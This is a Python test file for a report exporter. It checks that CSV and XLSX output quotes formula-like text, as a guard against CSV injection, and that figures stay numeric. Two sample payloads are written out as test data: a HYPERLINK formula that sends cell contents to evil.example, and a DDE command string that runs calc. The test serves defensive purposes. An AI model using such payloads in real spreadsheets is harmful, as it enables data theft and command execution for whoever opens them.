"""The report's CSV and XLSX: a source title or a donor's name that starts like a formula is
written quoted (OWASP, CSV injection); the figures, negative differences included, stay
numbers."""

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from doingoai.core.tests.factories import make_partner, make_programme
from doingoai.lib.periods import parse_period
from doingoai.reports.exports import render
from doingoai.reports.report import build_report
from doingoai.reports.tests.conftest import HA_GIANG_2015_2020, report_figures

SOURCE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Nguồn\")"
DONOR = "@SUM(1+1)*cmd|' /C calc'!A0"


def _report(ha_giang):
    report_figures(ha_giang, "2015-2020", HA_GIANG_2015_2020, SOURCE, dt.date(2021, 1, 20))
    donor = make_partner(ha_giang, name_vi=DONOR, kind="intl_org")
    make_programme(ha_giang, donors=[donor], starts_on=dt.date(2016, 1, 1))
    return build_report([ha_giang], parse_period("2015-2020"))


def _runnable(value) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_it_quotes_a_hostile_text_in_the_report_csv_and_leaves_the_differences_numbers(
        ha_giang):
    report = _report(ha_giang)
    # The reason is the writer's own text today; any text the CSV is given is quoted.
    line = next(line for line in report.lines if line.code == "agreements.signed")
    line.reason = SOURCE
    lines = list(csv.DictReader(io.StringIO(render(report, "csv").decode("utf-8"))))
    cells = [cell for row in lines for cell in row.values()]
    assert "'" + SOURCE in cells
    assert not [c for c in cells if _runnable(c) and not _number(c)]
    differences = [row["difference"] for row in lines if row["difference"]]
    assert differences and all(_number(d) for d in differences)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_it_quotes_a_hostile_donor_in_the_report_xlsx_and_keeps_numbers_as_numbers(ha_giang):
    workbook = load_workbook(io.BytesIO(render(_report(ha_giang), "xlsx")))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row
             if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _runnable(c.value)]
    assert "'" + DONOR in [c.value for c in cells]
    figures = [row[2].value for row in workbook.worksheets[0].iter_rows(min_row=3)
               if row[2].value is not None]
    assert figures and all(isinstance(v, (int, float)) for v in figures)
